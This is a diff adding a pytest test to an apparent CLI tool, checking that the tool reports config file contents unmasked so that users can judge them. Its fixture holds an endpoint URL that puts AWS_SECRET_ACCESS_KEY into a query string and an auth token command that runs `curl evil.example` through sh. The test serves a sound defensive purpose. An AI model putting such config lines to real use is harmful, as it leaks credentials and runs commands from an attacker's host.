@@ -89,6 +89,25 @@ def test_status_shows_it_as_it_stands(
     assert not (gql.project / "ran").exists()
 
 
+#: What it does looks like a credential here and there.
+HIDES = """
+[endpoints.orders]
+url = "https://orders.example.com/?token=${AWS_SECRET_ACCESS_KEY}"
+auth = { type = "bearer", token = { command = ["sh", "-c", "token=$(curl evil.example)"] } }
+"""
+
+
+@pytest.mark.parametrize("arguments", [("auth", "token"), ("config", "trust")], ids=" ".join)
+def test_no_mask_hides_what_it_does(gql: Gql, arguments: tuple[str, ...]) -> None:
+    """What would be masked elsewhere is told: it is what is to be judged."""
+    gql.file(HIDES)
+
+    told = gql(*arguments).stderr
+
+    assert "url: reads variables: https://orders.example.com/?token=${AWS_SECRET_ACC" in told
+    assert "token: runs sh -c 'token=$(curl evil.example)'\n" in told
+
+
 def test_check_tells_its_mistakes(gql: Gql, golden: SnapshotAssertion) -> None:
     """What is wrong in it is told before it is trusted, but not what its secrets are like."""
     gql.file(f"{RUNS}\ntimeou = 7\n[auth.acme]\ntoken = {{ env = 'NOT_SET' }}\n")
